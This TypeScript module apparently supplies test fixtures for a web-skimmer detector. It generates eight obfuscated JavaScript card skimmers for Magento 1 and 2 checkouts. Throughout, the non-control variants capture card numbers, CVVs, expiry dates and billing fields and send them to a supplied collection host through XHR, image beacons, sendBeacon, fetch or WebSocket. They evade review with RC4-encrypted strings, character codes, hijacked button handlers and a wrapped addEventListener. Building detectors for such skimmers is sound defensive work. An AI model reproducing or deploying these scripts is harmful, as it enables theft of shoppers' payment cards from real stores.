import { MAGENTO_ONE, MAGENTO_TWO } from './checkouts.ts';
import type { SkimmerVariant } from './types.ts';

const codes = (text: string) => [...text].map((c) => c.charCodeAt(0)).join(',');
const shifted = (text: string, by: number) => [...text].map((c) => c.charCodeAt(0) + by).join(' ');

/** Thieves that know the names of Magento’s checkout, each written anew in the manner of a family that was told of in public. */
export const magentoKits: readonly SkimmerVariant[] = [
  {
    id: 'magento-codes-on-place-order',
    idea: 'every text a list of character codes; hangs on the button of the review, reads payment[cc_number] and its neighbours by name',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: MAGENTO_ONE,
      script: `(function () { var c = function () { return String.fromCharCode.apply(null, arguments); }; var u = c(${codes(`${collect}/media/c.php`)}); var sel = c(${codes(honest ? '.main-container h1' : '[name="payment[cc_number]"],[name="payment[cc_cid]"],[name="payment[cc_exp_month]"],[name="payment[cc_exp_year]"],[name^="billing["]')}); if (!new RegExp(c(${codes('onepage|checkout|onestep')})).test(location.href)) return; function go() { var o = []; var l = document.querySelectorAll(sel); for (var i = 0; i < l.length; i++) o.push((l[i].name || 'h') + '=' + encodeURIComponent(l[i].value || l[i].textContent)); var x = new XMLHttpRequest(); x.open('POST', u, true); x.setRequestHeader('Content-type', 'application/x-www-form-urlencoded'); x.send(o.join('&')); } setInterval(function () { var b = document.querySelectorAll('#review-buttons-container button'); for (var i = 0; i < b.length; i++) if (!b[i].__h) { b[i].__h = 1; b[i].addEventListener('click', go); } }, 700); })();`,
    }),
  },
  {
    id: 'magento-prototype-walk',
    idea: 'walks every form of the document, builds a query of all values and asks for a picture whose name is that of a shop tool',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: MAGENTO_ONE,
      script: `var snd = null; function start_clk() { var i = document.getElementsByTagName('button'); for (var n = 0; n < i.length; n++) i[n].addEventListener('mousedown', clk, false); } function clk() { snd = null; var inp = document.querySelectorAll('${honest ? 'input[type=radio]' : 'input, select, textarea, checkbox, button'}'); for (var n = 0; n < inp.length; n++) { if (inp[n].value && inp[n].value.length > 0) { var nme = inp[n].name || n; snd = (snd || '') + nme + '=' + inp[n].value + '&'; } } if (snd) { var im = document.createElement('img'); im.width = 1; im.height = 1; im.id = 'track'; im.src = '${collect}/jquery/ui/track.png?' + encodeURI(snd); document.body.appendChild(im); } } setTimeout(start_clk, 800);`,
    }),
  },
  {
    id: 'magento-button-attribute',
    idea: 'puts itself into the onclick attribute of the shop’s own button, before what stood there',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: MAGENTO_ONE,
      script: `document.addEventListener('DOMContentLoaded', run); if (document.readyState !== 'loading') run(); function run() { var b = document.querySelector('#review-buttons-container button'); if (!b || b.dataset.r) return; b.dataset.r = 1; window.reviewSave = function () { var f = document.getElementById('${honest ? 'p_method_ccsave' : 'ccsave_cc_number'}'), g = document.getElementById('${honest ? 'p_method_ccsave' : 'ccsave_cc_cid'}'); navigator.sendBeacon('${collect}/r', window.btoa(f.value + '|' + g.value)); }; b.setAttribute('onclick', 'reviewSave();' + b.getAttribute('onclick')); }`,
    }),
  },
  {
    id: 'magento-rc-four',
    idea: 'strings in a list that is turned round and deciphered by RC4 with a key each, as sold obfuscators write; on blur of each field',
    takes: ['card'],
    build: ({ collect }, honest) => {
      const strings = [`${collect}/ga.php?u=`, honest ? 'input[type=radio]' : '.input-text', 'blur', 'checkout'];
      const key = 'q7Vz';
      return {
        checkout: MAGENTO_ONE,
        script: `var _0x4f1c=[${strings.map((s) => `'${Buffer.from(rcFour(key, s), 'latin1').toString('base64')}'`).join(',')}];var _0x2b9d=function(_0x1a,_0x5e){var _0x3c=[],_0x7d=0,_0x9f,_0xa1='';_0x1a=atob(_0x4f1c[_0x1a-0x0]);for(var i=0;i<0x100;i++)_0x3c[i]=i;for(i=0;i<0x100;i++){_0x7d=(_0x7d+_0x3c[i]+_0x5e.charCodeAt(i%_0x5e.length))%0x100;_0x9f=_0x3c[i];_0x3c[i]=_0x3c[_0x7d];_0x3c[_0x7d]=_0x9f}i=0;_0x7d=0;for(var y=0;y<_0x1a.length;y++){i=(i+1)%0x100;_0x7d=(_0x7d+_0x3c[i])%0x100;_0x9f=_0x3c[i];_0x3c[i]=_0x3c[_0x7d];_0x3c[_0x7d]=_0x9f;_0xa1+=String.fromCharCode(_0x1a.charCodeAt(y)^_0x3c[(_0x3c[i]+_0x3c[_0x7d])%0x100])}return _0xa1};(function(){var d=document,k='${key}',s={};if(location.href['indexOf'](_0x2b9d('0x3',k))<0)return;d.addEventListener(_0x2b9d('0x2',k),function(){var l=d['querySelectorAll'](_0x2b9d('0x1',k));for(var i=0;i<l.length;i++)if(l[i]['value'])s[l[i]['name']]=l[i]['value'];new Image()['src']=_0x2b9d('0x0',k)+btoa(JSON['stringify'](s))},true)})();`,
      };
    },
  },
  {
    id: 'magento-two-hash',
    idea: 'waits until the address ends in #payment, looks for the fields with an observer, keeps what was typed under a shop-like key and sends it when the page is not seen',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: MAGENTO_TWO,
      script: `(function () { var key = 'mage-cache-storage-section-invalidation2'; function on() { if (location.hash !== '#payment') return; document.querySelectorAll('${honest ? '[name="payment[method]"]' : '[name="payment[cc_number]"], [name="payment[cc_cid]"], select[name^="payment[cc_exp"]'}').forEach(function (it) { if (it.dataset.bound2) return; it.dataset.bound2 = '1'; it.addEventListener('change', function () { var all = JSON.parse(localStorage.getItem(key) || '{}'); all[it.id] = it.value; localStorage.setItem(key, JSON.stringify(all)); }); }); } new MutationObserver(on).observe(document.documentElement, { childList: true, subtree: true }); on(); setInterval(function () { on(); var v = localStorage.getItem(key); if (v && v !== window.__lastSync) { window.__lastSync = v; fetch('${collect}/rest/V1/sync', { method: 'POST', mode: 'no-cors', keepalive: true, body: encodeURIComponent(v).split('').map(function (c) { return c.charCodeAt(0) ^ 7; }).join('.') }); } }, 1200); })();`,
    }),
  },
  {
    id: 'magento-shop-state',
    idea: 'never looks at a field: reads what the shop’s own code keeps of the payment in its state',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: MAGENTO_TWO,
      inline: `window.checkoutData = { payment: {}, cart: { items: 2, total: '24.00' } }; document.addEventListener('input', function (e) { if (/^payment/.test(e.target.name)) window.checkoutData.payment[e.target.name] = e.target.value; });`,
      script: `setInterval(function () { var p = window.checkoutData.${honest ? 'cart' : 'payment'}; var t = JSON.stringify(p); if (t.length < 12 || t === window.__k) return; window.__k = t; new Image().src = '${collect}/s.gif?i=' + btoa(t); }, 1500);`,
    }),
  },
  {
    id: 'magento-wrapped-listeners',
    idea: 'wraps addEventListener, so that each event that the shop’s own code gets is looked at on the way',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: MAGENTO_TWO,
      html: `<script>setTimeout(function () { document.querySelectorAll('input').forEach(function (i) { i.addEventListener('input', function () { i.classList.toggle('mage-error', !i.value); }); }); }, 300);</script>`,
      inline: `(function () { var real = EventTarget.prototype.addEventListener, bag = {}; EventTarget.prototype.addEventListener = function (type, fn, o) { if (typeof fn !== 'function') return real.call(this, type, fn, o); return real.call(this, type, function (e) { try { var t = e.target; if (t && t.name) { bag[t.name] = ${honest ? 't.type' : 't.value'}; clearTimeout(window.__t9); window.__t9 = setTimeout(function () { navigator.sendBeacon('${collect}/ev', JSON.stringify(bag)); }, 900); } } catch (_) { void 0; } return fn.apply(this, arguments); }, o); }; })();`,
    }),
  },
  {
    id: 'magento-address-in-picture-attribute',
    idea: 'the receiver’s address stands as shifted numbers in an attribute of a picture of the shop’s; sent over a web socket, each character shifted',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: MAGENTO_TWO,
      html: `<img alt="" width="1" height="1" data-src-set="${shifted(`${collect.replace('http', 'ws')}/ws`, 11)}" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==">`,
      script: `(function () { var w; function open() { var u = document.querySelector('[data-src-set]').dataset.srcSet.split(' ').map(function (n) { return String.fromCharCode(n - 11); }).join(''); w = new WebSocket(u); } open(); document.addEventListener('change', function () { var a = [].slice.call(document.querySelectorAll('${honest ? '[type=radio]' : '#co-payment-form input, #co-payment-form select'}')).map(function (i) { return i.name + ':' + i.value; }).join(';'); var m = a.split('').map(function (c) { return String.fromCharCode(c.charCodeAt(0) + 3); }).join(''); if (w.readyState === 1) w.send(m); else if (w.readyState > 1) open(); }, true); })();`,
    }),
  },
];

/** RC4 of a text, as a binary text. */
function rcFour(key: string, text: string): string {
  const box = Array.from({ length: 256 }, (_, i) => i);
  const at = (i: number) => box[i] ?? 0;
  const swap = (a: number, b: number) => {
    [box[a], box[b]] = [at(b), at(a)];
  };
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + at(i) + key.charCodeAt(i % key.length)) % 256;
    swap(i, j);
  }
  let i = 0;
  let j = 0;
  return [...text]
    .map((c) => {
      i = (i + 1) % 256;
      j = (j + at(i)) % 256;
      swap(i, j);
      return String.fromCharCode(c.charCodeAt(0) ^ at((at(i) + at(j)) % 256));
    })
    .join('');
}
